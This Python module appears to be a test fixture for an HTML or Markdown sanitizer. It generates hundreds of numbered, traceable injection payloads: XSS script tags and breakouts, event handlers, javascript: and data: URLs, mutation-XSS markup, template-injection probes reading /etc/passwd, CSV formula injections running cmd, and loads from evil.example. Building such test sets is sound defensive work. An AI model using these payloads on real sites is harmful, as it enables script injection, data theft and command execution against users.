"""Payloads by family. `%d` is the payload's number: if it ever runs, it calls `hit(number)` or asks evil.example.

Each also holds the word `zq%dz`, by which its text is found again.
"""

# ruff: noqa: E501  # a payload is read in one piece

import base64
from collections.abc import Iterator, Sequence
from itertools import product

HIT = "hit(%d)"
EVIL = "//evil.example/%d"
WORD = "zq%dz"

SCRIPTS = (
    f"<script>{HIT}</script>{WORD}",
    f"<SCRIPT>{HIT}</SCRIPT>{WORD}",
    f"<ScRiPt >{HIT}</sCrIpT >{WORD}",
    f"<script/x>{HIT}</script>{WORD}",
    f"<script\t>{HIT}</script\t>{WORD}",
    f"<script\x0c>{HIT}</script>{WORD}",
    f"<scr\x00ipt>{HIT}</scr\x00ipt>{WORD}",
    f"<<script>{HIT}//<</script>{WORD}",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>{WORD}",
    f"<script src={EVIL}></script>{WORD}",
    f'<script src="https:{EVIL}.js" defer></script>{WORD}',
    f"<script type=module>{HIT}</script>{WORD}",
    f"<script type='text/javascript'>{HIT}</script>{WORD}",
    f"<script>/*{WORD}*/{HIT}",
    f"<script>//<![CDATA[ {HIT} //]]></script>{WORD}",
    f"<xml><script xmlns='http://www.w3.org/1999/xhtml'>{HIT}</script></xml>{WORD}",
)
BREAKOUTS = (
    f"</script><script>{HIT}</script>{WORD}",
    f"</SCRIPT ><img src=x onerror={HIT}>{WORD}",
    f"<!--<script>{WORD}--><script>{HIT}</script>",
    f"--><script>{HIT}</script>{WORD}",
    f"--!><img src=x onerror={HIT}>{WORD}",
    f"]]><script>{HIT}</script>{WORD}",
    f"<![CDATA[<script>{HIT}</script>]]>{WORD}",
    f"</title><script>{HIT}</script>{WORD}",
    f"</textarea></style></noscript></template><img src=x onerror={HIT}>{WORD}",
    f"</head></body></html><script>{HIT}</script>{WORD}",
    f'"}}];{HIT};//{WORD}',
    f"\\u003c/script\\u003e\\u003cscript\\u003e{HIT}//{WORD}",
    f"\\x3cscript\\x3e{HIT}\\x3c/script\\x3e {WORD}",
    f'\\");{HIT};//{WORD}',
    f"\u2028{HIT}\u2029{WORD}",
    f'");{HIT};searchShard("{WORD}',
    f"<!DOCTYPE x [<!ENTITY e SYSTEM 'https:{EVIL}'>]>&e;{WORD}",
    f"<?php {HIT} ?><?xml-stylesheet href='{EVIL}'?>{WORD}",
)
HANDLED = (
    "img src=x onerror", "svg onload", "body onload", "details open ontoggle", "video src=x onerror",
    "audio src=x onerror", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus",
    "marquee onstart", "iframe onload", "object data=x onerror", "embed src=x onerror", "style onload",
    "link rel=stylesheet href=x onerror", "x tabindex=1 autofocus onfocus", "div contenteditable autofocus onfocus",
    "form onformdata", "math onmouseover", "p onclick", "a href=# onclick", "frameset onload", "keygen autofocus onfocus",
    "svg><animate onbegin", "svg><set attributeName=x onbegin", "video><source onerror", "picture><img src=x onerror",
    "meter onmouseover", "button popovertarget=x onfocus autofocus", "dialog open onclose", "table background=x onload",
    "image src=x onerror", "isindex type=image src=x onerror", "body onpageshow", "body onhashchange", "bgsound onerror",
)  # fmt: skip
QUOTED = ("<{0}={1}>" + WORD, '<{0}="{1}">' + WORD, "<{0}='{1}'>" + WORD, "<{2}={1}//" + WORD)
ATTRIBUTE_BREAKOUTS = (
    f'"><img src=x onerror={HIT}>{WORD}',
    f"'><img src=x onerror={HIT}>{WORD}",
    f"` onmouseover={HIT} {WORD}",
    f'" autofocus onfocus={HIT} x="{WORD}',
    f"' autofocus onfocus={HIT} x='{WORD}",
    f'x" style="background:url({EVIL})" {WORD}',
    f"&quot;&gt;&lt;img src=x onerror={HIT}&gt;{WORD}",
    f"&#34;&#62;&#60;img src=x onerror={HIT}&#62;{WORD}",
    f"%%22%%3E%%3Cimg src=x onerror={HIT}%%3E {WORD}",
)
JAVASCRIPT = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\x01javascript:{}", "java\tscript:{}", "java\nscript:{}",
    "java&#9;script:{}", "java&Tab;script:{}", "java&NewLine;script:{}", "&#106;avascript:{}", "&#x6A;avascript:{}",
    "&#0000106avascript:{}", "javascript&colon;{}", "javascript&#58;{}", "javascript://%%0a{}", "javascript:/*x*/{}",
    "java\u200bscript:{}", "\u202ejavascript:{}", "javascript\uff1a{}", "feed:javascript:{}", "view-source:javascript:{}",
    "vbscript:{}", "VBScript:{}", "livescript:{}", "mocha:{}", "jar:javascript:{}", "%%6Aavascript:{}", "java\\script:{}",
    "java\x00script:{}", "javascript:%%28{}%%29", "http:javascript:{}", "x:javascript:{}",
)  # fmt: skip
ENCODED = base64.b64encode(b"<script>parent.hit(0)</script>").decode()
OTHER_SCHEMES = (
    "data:text/html,<script>{}</script>", "DATA:text/html,<script>{}</script>", "data:text/html;base64," + ENCODED,
    "data:image/svg+xml,<svg onload={}>", "data:,{}", "data:application/xhtml+xml,<x>{}</x>", "blob:null/{}",
    "file:///etc/passwd#{}", "filesystem:x/{}", "//evil.example/?{}", "\\\\evil.example\\{}", "/\\evil.example/{}",
    "https:evil.example/{}", "ws://evil.example/{}", "mailto:x@evil.example?body={}", "tel:{}", "intent:x#{}",
    "ms-msdt:/{}", "search-ms:{}", "about:{}", "chrome://{}", "steam:{}", "ftp://evil.example/{}",
)  # fmt: skip
CARRIERS = (
    '<a href="{}">' + WORD + "</a>",
    "<a href={}>" + WORD + "</a>",
    '<a xlink:href="{}">' + WORD + "</a>",
    '<iframe src="{}"></iframe>' + WORD,
    '<form action="{}"><input type=submit autofocus>' + WORD + "</form>",
    '<button formaction="{}">' + WORD + "</button>",
    '<object data="{}"></object>' + WORD,
    '<embed src="{}">' + WORD,
    '<img src="{}">' + WORD,
    '<img srcset="{} 1x">' + WORD,
    '<base href="{}">' + WORD,
    '<link rel=stylesheet href="{}">' + WORD,
    '<link rel=prefetch href="{}">' + WORD,
    '<meta http-equiv=refresh content="0;url={}">' + WORD,
    '<svg><a href="{}"><text>' + WORD + "</text></a></svg>",
    '<svg><use href="{}"/></svg>' + WORD,
    '<math href="{}">' + WORD + "</math>",
    '<video poster="{}"></video>' + WORD,
    '<body background="{}">' + WORD,
    "[" + WORD + "]({})",
    "[" + WORD + "](<{}>)",
    "[" + WORD + ']({} "title")',
    "![" + WORD + "]({})",
    "[" + WORD + "][r%d]\n\n[r%d]: {}",
    "![" + WORD + "][p%d]\n\n[p%d]: {}",
    "<{}> " + WORD,
    WORD + " {}",
)
ELEMENTS = (
    f"<style>@import '{EVIL}';*{{background:url({EVIL})}}</style>{WORD}",
    f'<div style="background:url({EVIL});width:expression({HIT})">{WORD}</div>',
    f'<p style="position:fixed;inset:0;background:red">{WORD}</p>',
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>{WORD}",
    f"<meta http-equiv=Content-Security-Policy content='script-src *'>{WORD}",
    f"<meta charset=utf-7>+ADw-script+AD4-{HIT}+ADw-/script+AD4-{WORD}",
    f"<meta name=referrer content=unsafe-url><link rel=dns-prefetch href='{EVIL}'>{WORD}",
    f"<form id=search><input name=action><input name=nodeName>{WORD}</form>",
    f"<img name=currentScript><a id=searchShard></a><form name=getElementById></form>{WORD}",
    f"<svg><script>{HIT}</script></svg>{WORD}",
    f"<svg><script href='data:,{HIT}'/></svg>{WORD}",
    f"<svg><foreignObject><iframe src='javascript:{HIT}'></foreignObject></svg>{WORD}",
    f"<svg><animate attributeName=href values='javascript:{HIT}'/></svg>{WORD}",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style></mglyph></table></mtext></math>{WORD}",
    f"<math><annotation-xml encoding=text/html><script>{HIT}</script></annotation-xml></math>{WORD}",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>{WORD}",
    f"<template><script>{HIT}</script></template>{WORD}",
    f"<template shadowrootmode=open><img src=x onerror={HIT}></template>{WORD}",
    f"<svg></p><style><a id='</style><img src=x onerror={HIT}>'>{WORD}",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>{WORD}",
    f"<xmp><p title='</xmp><img src=x onerror={HIT}>'>{WORD}",
    f"<plaintext>{WORD}<script>{HIT}</script>",
    f"<listing>&lt;img src=x onerror={HIT}&gt;</listing>{WORD}",
    f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={HIT}>'>{WORD}",
    f"<object><param name=src value='javascript:{HIT}'></object><applet code=x>{WORD}</applet>",
    f"<portal src='{EVIL}'></portal><fencedframe></fencedframe>{WORD}",
    f"<audio autoplay src='https:{EVIL}'></audio><track src='{EVIL}'>{WORD}",
    f"<input type=image src='{EVIL}' formaction='javascript:{HIT}'>{WORD}",
    f"<a href='https:{EVIL}' ping='https:{EVIL}' target=_blank download>{WORD}</a>",
    f"<frameset><frame src='javascript:{HIT}'></frameset>{WORD}",
    f"<font color=red face='x'><center><blink>{WORD}</blink></center></font>",
)
TEMPLATES = (
    "{{ 7*7 }}" + WORD, "{{ config }}" + WORD, "{{ ''.__class__.__mro__ }}" + WORD, "{%% raw %%}" + WORD + "{%% endraw %%}",
    "{%% include '/etc/passwd' %%}" + WORD, "{# " + WORD + " #}", "{{ page }}{{ frame.policy }}" + WORD,
    "{%% for x in y %%}" + WORD, "{{" + WORD, WORD + "}}", "{%%" + WORD, "${7*7}" + WORD, "<%%= 7*7 %%>" + WORD,
    "#{7*7}" + WORD, "{{{" + WORD + "}}}", "[[7*7]]" + WORD, "{{ [].pop.constructor('hit(%d)')() }}" + WORD,
    "{%% set x = 1 %%}{{ x | safe }}" + WORD, "{{ '<script>hit(%d)</script>' | safe }}" + WORD, "\\{{" + WORD + "\\}}",
)  # fmt: skip
MARKDOWN = (
    f"## {WORD} {{#main onclick={HIT}}}",
    f"## {WORD} {{: #searchShard .skip style='x' onmouseover={HIT}}}",
    f'{WORD}\n{{: onclick="{HIT}" style="background:url({EVIL})" }}',
    f"*{WORD}*{{: onclick={HIT} }}",
    f"[{WORD}](https://x.example){{: onclick={HIT} target=_blank ping={EVIL} }}",
    f"{WORD}[^n%d]\n\n[^n%d]: <script>{HIT}</script>",
    f'{WORD}[^"onload={HIT}]\n\n[^"onload={HIT}]: note',
    f"`<script>{HIT}</script>`{WORD}",
    f"```html\n<script>{HIT}</script>{WORD}\n```",
    f"    <script>{HIT}</script>{WORD}",
    f"> <script>{HIT}</script>\n> {WORD}",
    f"- <img src=x onerror={HIT}>\n- {WORD}",
    f"| <script>{HIT}</script> | {WORD} |\n|---|---|\n| a | <img src=x onerror={HIT}> |",
    f"{WORD}\n: <script>{HIT}</script>",
    f"<div markdown=1>\n*{WORD}*\n<script>{HIT}</script>\n</div>",
    f"[{WORD}](https://x.example/'onmouseover={HIT}')",
    f'[{WORD}](https://x.example/"onmouseover="{HIT}")',
    f"[{WORD}](https://x.example/<script>{HIT}</script>)",
    f"![{WORD}\"onerror={HIT}](x)",
    f"![{WORD}](https:{EVIL}.png)",
    f"<https://x.example/\"onclick={HIT}> {WORD}",
    f"*[{WORD}]: <script>{HIT}</script>\n\n{WORD}",
    f"\\<script>{HIT}\\</script>{WORD}",
    f"<script\n>{HIT}</script\n>{WORD}",
    f"<<{WORD}>{HIT}>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;{WORD}",
    f"&amp;lt;script&amp;gt;{HIT}&amp;lt;/script&amp;gt;{WORD}",
    f"\x02wzxhzdk:0\x03{WORD}",
    f"\x02amp\x03lt;script>{HIT}{WORD}",
    f"\x02klzzwxh:0001\x03<script>{HIT}</script>{WORD}",
    f"zz1337820767766393qq {WORD}<script>{HIT}</script>",
)  # fmt: skip
SPELLINGS = (
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e{WORD}",
    f"%%3Cscript%%3E{HIT}%%3C/script%%3E {WORD}",
    f"&#60;script&#62;{HIT}&#60;/script&#62;{WORD}",
    f"&#x3c;script&#x3e;{HIT}&#x3c;/script&#x3e;{WORD}",
    f"&LT;script&GT;{HIT}&LT;/script&GT;{WORD}",
    f"&lt script&gt {HIT}{WORD}",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-{WORD}",
    f"\u2039script\u203a{HIT}{WORD}",
    f"<\u200bscript>{HIT}</script>{WORD}",
    f"<\u00adscript>{HIT}</script>{WORD}",
    f"<s\u0301cript>{HIT}</script>{WORD}",
    f"<\u017fcript>{HIT}</\u017fcript>{WORD}",
    f"<scr\u0131pt>{HIT}</scr\u0131pt>{WORD}",
    f"<\ufeffscript>{HIT}</script>{WORD}",
    f"\u202e>tpircs/<{HIT}>tpircs<{WORD}",
    f"=cmd|' /C calc'!A%d {WORD}",
    f"+1+cmd|' /C calc'!A%d {WORD}",
    f'-2+3+HYPERLINK("https:{EVIL}") {WORD}',
    f"@SUM(1+1)*%d {WORD}",
    f"\t=1+%d {WORD}",
    f"\r=1+%d {WORD}",
    f"\uff1d1+%d {WORD}",
)

FAMILIES: dict[str, Sequence[str]] = {
    "script elements": SCRIPTS,
    "ends of what it stands in": BREAKOUTS,
    "handlers": tuple(shape.format(tag, HIT, tag.replace(" ", "/")) for tag, shape in product(HANDLED, QUOTED)),
    "ends of attributes": ATTRIBUTE_BREAKOUTS,
    "addresses that run": tuple(
        carrier.replace("{}", address.format(HIT)) for carrier, address in product(CARRIERS, JAVASCRIPT)
    ),
    "addresses that lead astray": tuple(
        carrier.replace("{}", address.format("x%d")) for carrier, address in product(CARRIERS, OTHER_SCHEMES)
    ),
    "elements": ELEMENTS,
    "template syntax": TEMPLATES,
    "Markdown": MARKDOWN,
    "spellings": SPELLINGS,
}


def numbered(most_of_family: int = 10**9) -> Iterator[tuple[str, int, str]]:
    """Family, number and payload. Of a large family, evenly as many as are asked for."""
    number = 0
    for family, shapes in FAMILIES.items():
        step = max(1, -(-len(shapes) // most_of_family))
        for shape in shapes[::step]:
            number += 1
            yield family, number, shape.replace("%%", "\x7f").replace("%d", str(number)).replace("\x7f", "%")


def word(number: int) -> str:
    return WORD % number
